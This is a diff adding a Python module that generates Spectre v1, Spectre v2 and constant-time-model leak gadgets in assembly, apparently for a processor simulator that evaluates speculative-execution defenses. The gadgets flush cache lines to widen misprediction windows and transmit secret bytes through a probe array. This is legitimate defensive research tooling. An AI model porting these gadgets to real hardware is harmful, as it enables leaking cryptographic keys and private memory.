@@ -1,0 +1,215 @@
+"""Spectre attack gadget builders.
+
+Two victims, matching the paper's two threat models:
+
+* :func:`spectre_v1` — **speculatively accessed secret** (sandbox model):
+  a bounds-check-bypass gadget.  The branch is trained in-bounds inside the
+  program; the final, out-of-bounds trigger is architecturally skipped but
+  speculatively executed, loading the secret and transmitting it through
+  the probe array.
+* :func:`spectre_v1_ct` — **non-speculatively accessed secret**
+  (constant-time model): the victim legitimately loads its key into a
+  register (as constant-time crypto code does); an attacker-shaped
+  cold-predictor branch then mispredicts into architecturally dead code
+  that transmits the key register.  STT-class defenses do *not* stop this;
+  comprehensive ones (fence/dom/ctt/levioso) must.
+
+Both gadgets delay branch resolution by ``cflush``-ing the condition's cache
+line, exactly like real exploits, so the speculative window is wide enough
+for the transmission.
+"""
+
+from __future__ import annotations
+
+from ..asm import assemble
+from ..asm.program import Program
+from .channel import PROBE_SLOTS, PROBE_STRIDE
+
+
+def spectre_v1(secret_byte: int = 0x5A, train_rounds: int = 24) -> Program:
+    """Bounds-check bypass leaking a byte placed just past a public array.
+
+    The public array holds zeros, so training transmissions only ever touch
+    probe slot 0; a successful attack lights exactly one other slot —
+    ``secret_byte``.
+    """
+    if not 1 <= secret_byte <= 255:
+        raise ValueError("secret byte must be in 1..255 (slot 0 is training noise)")
+    bound = 16
+    # idx sequence: `train_rounds` in-bounds accesses, then the OOB trigger.
+    idxs = [i % bound for i in range(train_rounds)]
+    oob = 8 * bound  # byte offset of `secret` right past the dword array
+    idxs.append(oob)
+
+    idx_words = ", ".join(str(i) for i in idxs)
+    source = f"""
+.data
+array:
+    .zero {bound * 8}
+.secret v1_secret
+secret:
+    .dword {secret_byte}
+.public
+warm_neighbor:
+    .dword 0              # public data sharing the secret's cache line
+.align 6
+probe:
+    .zero {PROBE_SLOTS * PROBE_STRIDE}
+.align 6
+bound:
+    .dword {bound * 8}
+.align 6
+idx_seq:
+    .dword {idx_words}
+.text
+    la s0, array
+    la s1, probe
+    la s2, idx_seq
+    la s3, bound
+    # The victim has recently used its secret: its cache line is warm
+    # (standard Spectre-v1 precondition; modeled by touching public data
+    # that shares the line).
+    la t0, warm_neighbor
+    ld t1, 0(t0)
+    li s4, 0              # i
+    li s5, {len(idxs)}
+loop:
+    slli t0, s4, 3
+    add t0, s2, t0
+    ld s6, 0(t0)          # attacker-controlled index
+    cflush 0(s3)          # slow down the bounds check
+    fence                 # order the flush before the bound load
+    ld t1, 0(s3)          # bound (misses)
+    bgeu s6, t1, skip     # bounds check: trained not-taken, trigger is taken
+    add t2, s0, s6
+    lbu t3, 0(t2)         # speculative secret access on the trigger
+    slli t4, t3, 6        # * PROBE_STRIDE
+    add t5, s1, t4
+    lb t6, 0(t5)          # transmit
+skip:
+    addi s4, s4, 1
+    bne s4, s5, loop
+    halt
+"""
+    return assemble(source, name="spectre_v1")
+
+
+def spectre_v2(secret_byte: int = 0xB4, train_rounds: int = 12) -> Program:
+    """Branch-target injection (Spectre v2): BTB-trained indirect call.
+
+    Phase 1 (attacker-controlled inputs): the victim's indirect call is
+    repeatedly steered to a harmless stub — while the to-be-leaked register
+    still holds a public value — training the BTB.
+    Phase 2: the victim loads its key (non-speculatively) and makes the same
+    indirect call with a *benign* target whose pointer load is slow; the BTB
+    predicts the stub, which speculatively transmits the key register.
+
+    Like :func:`spectre_v1_ct`, this leaks a non-speculatively accessed
+    secret: STT- and NDA-class defenses do not stop it.
+    """
+    if not 1 <= secret_byte <= 255:
+        raise ValueError("secret byte must be in 1..255")
+    rounds = train_rounds + 1  # final round is the attack
+    target_syms = ", ".join(["stub"] * train_rounds + ["benign"])
+    value_syms = ", ".join(["public_zero"] * train_rounds + ["key"])
+    source = f"""
+.text
+    la s1, probe
+    la s0, call_targets
+    la s5, value_ptrs
+    # The victim has used its key recently: its line is warm (same
+    # precondition as spectre_v1).
+    la t0, key_warm
+    ld t1, 0(t0)
+    li s9, 0
+    li s10, {rounds}
+loop:
+    slli t0, s9, 3
+    add t1, s0, t0
+    cflush 0(t1)          # make the target-pointer load slow every round
+    fence
+    add t3, s5, t0
+    ld t4, 0(t3)
+    ld s11, 0(t4)         # 0 during training; the key on the final round
+    ld t2, 0(t1)          # call target: stub x N, then benign (resolves late)
+    jalr ra, t2, 0        # ONE static call site: the BTB aliases the phases
+    addi s9, s9, 1
+    bne s9, s10, loop
+    halt
+
+stub:                     # harmless while s11 is public; gadget on the last
+    andi t2, s11, 0xff
+    slli t3, t2, 6
+    add t4, s1, t3
+    lb t5, 0(t4)          # transmit
+    ret
+benign:
+    ret
+
+.data
+.secret v2_key
+key:
+    .dword {secret_byte}
+.public
+key_warm:
+    .dword 0              # public data sharing the key's cache line
+.align 6
+public_zero:
+    .dword 0
+.align 6
+probe:
+    .zero {PROBE_SLOTS * PROBE_STRIDE}
+.align 6
+call_targets:
+    .dword {target_syms}
+value_ptrs:
+    .dword {value_syms}
+"""
+    return assemble(source, name="spectre_v2")
+
+
+def spectre_v1_ct(secret_byte: int = 0xA7) -> Program:
+    """Leak of a *non-speculatively* loaded secret (constant-time model).
+
+    The victim loads its key register legitimately.  A never-taken-path
+    gadget sits under a branch that is architecturally always taken but
+    cold in the predictor (predicted weakly not-taken on first sight), so
+    the gadget runs exactly once, speculatively.
+    """
+    if not 1 <= secret_byte <= 255:
+        raise ValueError("secret byte must be in 1..255")
+    source = f"""
+.data
+.secret ct_key
+key:
+    .dword {secret_byte}
+.public
+.align 6
+probe:
+    .zero {PROBE_SLOTS * PROBE_STRIDE}
+.align 6
+cond:
+    .dword 1
+.text
+    # --- constant-time victim: loads its key non-speculatively ---
+    la t0, key
+    ld s11, 0(t0)         # the secret, now in a register
+    li s10, 0
+    addi s10, s10, 7      # some register-only work
+    xor s10, s10, s11
+    # --- attacker-shaped control flow ---
+    la s1, probe
+    la s2, cond
+    cflush 0(s2)          # make the condition load slow
+    fence                 # order the flush before the condition load
+    ld t1, 0(s2)          # cond == 1, but resolves late
+    bnez t1, after        # always taken; cold predictor says not-taken
+    # architecturally dead gadget (speculated into exactly once):
+    andi t2, s11, 0xff
+    slli t3, t2, 6
+    add t4, s1, t3
+    lb t5, 0(t4)          # transmit the key byte
+after:
+    halt
+"""
+    return assemble(source, name="spectre_v1_ct")
